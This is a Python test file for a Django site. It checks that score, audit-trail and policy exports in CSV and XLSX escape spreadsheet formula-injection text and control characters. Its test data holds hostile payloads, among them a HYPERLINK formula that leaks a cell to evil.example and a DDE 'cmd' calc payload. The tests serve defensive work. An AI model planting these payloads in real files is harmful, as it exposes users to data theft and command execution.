"""Every CSV and XLSX the site writes, filled with hostile text, reads back (csv module,
openpyxl) with no formula and no error: the score exports (changelist, selected rows,
a batch, ``export_scores``), the audit trail CSV and every policy resource's export.

The hostile text is put in the database directly, as if an older upload or a careless
edit had stored it: formulas, tab and carriage-return prefixes, control characters.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from common.spreadsheet import FORMULA_START, neutralise, unneutralise, writable
from policy.models import CSO, Channel, Directive, GreetingTemplate, ScoredParameter, TimeBand
from policy.resources import (
    ChannelResource,
    CSOResource,
    DirectiveResource,
    GreetingTemplateResource,
    ScoredParameterResource,
    TimeBandResource,
)
from scoring.models import Score, Transcript
from tests.roles import AUDITOR, PUSAT, QA, role_user
from tests.scoring.uploads import jsonl, line, upload_and_score

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Rina")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
# PostgreSQL cannot store NUL in text at all; SQLite can, so it is tried there.
CONTROLS = ["bell\x07 escape\x1b end", "=\x07formula and bell", "\x1b[31mred"] + (
    ["nul\x00inside"] if connection.vendor == "sqlite" else []
)
HOSTILE = FORMULAS + CONTROLS
UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
POLICY = {
    "channel": ChannelResource,
    "directive": DirectiveResource,
    "greetingtemplate": GreetingTemplateResource,
    "timeband": TimeBandResource,
    "scoredparameter": ScoredParameterResource,
    "cso": CSOResource,
}


def hostile(i: int) -> str:
    return HOSTILE[i % len(HOSTILE)]


# --- reading back -------------------------------------------------------------------------------


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")  # would raise on a surrogate or bad byte
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(content: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content))  # not read-only: data_type is kept
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
                cells.append(cell.value)
    return cells


def assert_safe(cells: list, *, expect_hostile: bool = True) -> None:
    texts = [c for c in cells if isinstance(c, str)]
    for text in texts:
        assert not text.startswith(FORMULA_START), f"cell starts a formula: {text!r}"
        assert not UNWRITABLE.search(text), f"cell holds an unwritable character: {text!r}"
    if expect_hostile:
        # The hostile text is there, escaped, not dropped: the test cannot pass on an empty file.
        assert any(t.startswith("'") and t[1:].startswith(FORMULA_START) for t in texts), texts[:40]
        assert any("\ufffd" in t for t in texts), texts[:40]


def assert_file_safe(content: bytes, fmt: str, **kwargs) -> None:
    assert_safe(csv_cells(content) if fmt == "csv" else xlsx_cells(content), **kwargs)


# --- the function itself --------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE, "\ud800 lone", "\udfff", "\ufffe\uffff", "=\ud800", "plain", "", "''=x"])
def test_neutralise_is_safe_and_undone_by_unneutralise(text):
    safe = neutralise(text)
    assert not safe.startswith(FORMULA_START) and not UNWRITABLE.search(safe)
    safe.encode("utf-8")  # a lone surrogate would raise here
    assert unneutralise(safe) == writable(text)


def test_neutralise_leaves_ordinary_text_alone():
    assert neutralise("PLN 123 Selamat Pagi") == "PLN 123 Selamat Pagi"
    assert neutralise("baris satu\nbaris dua\tkolom") == "baris satu\nbaris dua\tkolom"
    assert neutralise(None) == "" and neutralise(7) == "7"


# --- the world ------------------------------------------------------------------------------------


@pytest.fixture
def world(seeded):
    """GIVEN a scored upload, then hostile text stored in every text the exports carry."""
    qa = role_user(QA)
    batch = upload_and_score(jsonl(*(line(f"H-{i}") for i in range(len(HOSTILE)))), qa)
    for i, transcript in enumerate(Transcript.objects.order_by("pk")):
        Transcript.objects.filter(pk=transcript.pk).update(
            external_id=hostile(i) + f" #{i}", cso_name=hostile(i + 1), category=hostile(i + 2)
        )
    for i, score in enumerate(Score.objects.order_by("pk")):
        Score.objects.filter(pk=score.pk).update(reason=hostile(i), expected_greeting=hostile(i + 3))
    # Policy objects saved the ordinary way, so the audit trail has them too.
    for i, text in enumerate(HOSTILE):
        CSO.objects.create(cso_id=f"H{i:03d}", full_name=text, aliases=hostile(i + 1))
    Channel.objects.filter(code="email").update(name=hostile(0))
    Channel.objects.filter(code="voice").update(name=hostile(7))
    for i, directive in enumerate(Directive.objects.order_by("pk")):
        Directive.objects.filter(pk=directive.pk).update(
            title=hostile(i), issuing_unit=hostile(i + 7), memo_text=hostile(i + 2)
        )
    for i, template in enumerate(GreetingTemplate.objects.order_by("pk")):
        GreetingTemplate.objects.filter(pk=template.pk).update(text=hostile(i) + " {waktu}")
        if i == 0:
            GreetingTemplate.objects.filter(pk=template.pk).update(text=hostile(7))
    for i, band in enumerate(TimeBand.objects.order_by("pk")):
        TimeBand.objects.filter(pk=band.pk).update(word=(hostile(i) if i % 2 else hostile(7))[:28] + str(i))
    for i, parameter in enumerate(ScoredParameter.objects.order_by("pk")):
        ScoredParameter.objects.filter(pk=parameter.pk).update(name=hostile(i + 7) if i % 2 else hostile(0))
    return batch


def client_of(role: str) -> Client:
    client = Client()
    client.force_login(role_user(role))
    return client


# --- score exports --------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_score_list_export_is_safe(world, fmt):
    response = client_of(QA).get(reverse("admin:scoring_score_export", args=[fmt]))
    assert response.status_code == 200
    assert_file_safe(response.content, fmt)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_score_export_of_selected_rows_is_safe(world, fmt):
    chosen = [str(pk) for pk in Score.objects.values_list("pk", flat=True)]
    response = client_of(QA).post(
        reverse("admin:scoring_score_changelist"), {"action": f"export_{fmt}", "_selected_action": chosen}
    )
    assert response.status_code == 200
    assert_file_safe(response.content, fmt)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_batch_export_is_safe(world, fmt):
    response = client_of(QA).get(reverse("admin:scoring_uploadbatch_export", args=[world.pk, fmt]))
    assert response.status_code == 200
    assert_file_safe(response.content, fmt)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_scores_command_is_safe(world, fmt, tmp_path):
    target = tmp_path / f"out.{fmt}"
    call_command("export_scores", str(target), stdout=io.StringIO())
    assert_file_safe(target.read_bytes(), fmt)


# --- the audit trail ------------------------------------------------------------------------------


def test_audit_trail_csv_is_safe(world):
    today = timezone.localdate()
    response = client_of(AUDITOR).get(
        reverse("audit:trail"),
        {"start": (today - dt.timedelta(days=1)).isoformat(), "end": today.isoformat(), "format": "csv"},
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert_file_safe(response.content, "csv")


# --- the policy's import-export -------------------------------------------------------------------


def policy_export(client: Client, model_name: str, fmt: str) -> bytes:
    resource = POLICY[model_name]
    fields = {f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_order()}
    response = client.post(
        reverse(f"admin:policy_{model_name}_export"),
        {"resource": "0", "format": {"csv": "0", "xlsx": "1"}[fmt], **fields},
    )
    assert response.status_code == 200, response.content[:500]
    assert "attachment" in response["Content-Disposition"]
    return response.content


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("model_name", POLICY)
def test_policy_export_is_safe(world, model_name, fmt):
    """GIVEN hostile text in every policy model
    WHEN Pusat exports each of them as CSV and as XLSX from the admin
    THEN no cell is a formula or starts like one, no control character is left, and the
    files open."""
    content = policy_export(client_of(PUSAT), model_name, fmt)
    assert_file_safe(content, fmt)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_neutralised_policy_export_imports_back_unchanged(seeded, fmt):
    """GIVEN CSOs whose names look like formulas (no control characters)
    WHEN Pusat exports them and imports the same file through the admin's two steps
    THEN every row is unchanged: the apostrophes the export added are taken off again.
    (A carriage return is left out: reading CSV as text, and XML, turn it into a line feed.)"""
    formulas = [text for text in FORMULAS if "\r" not in text]
    for i, text in enumerate(formulas):
        CSO.objects.create(cso_id=f"F{i:03d}", full_name=text, aliases=formulas[(i + 1) % len(formulas)])
    before = sorted(CSO.objects.values_list("cso_id", "full_name", "aliases", "active"))
    client = client_of(PUSAT)
    content = policy_export(client, "cso", fmt)
    assert_safe(csv_cells(content) if fmt == "csv" else xlsx_cells(content), expect_hostile=False)
    upload = SimpleUploadedFile(f"c.{fmt}", content)
    first = client.post(
        reverse("admin:policy_cso_import"),
        {"resource": "0", "format": {"csv": "0", "xlsx": "1"}[fmt], "import_file": upload},
    )
    assert first.status_code == 200
    result = first.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    after = sorted(CSO.objects.values_list("cso_id", "full_name", "aliases", "active"))
    assert [a for a in after if a not in before] == []
    assert result.totals["skip"] == len(before), result.totals
    assert sorted(CSO.objects.values_list("cso_id", "full_name", "aliases", "active")) == before
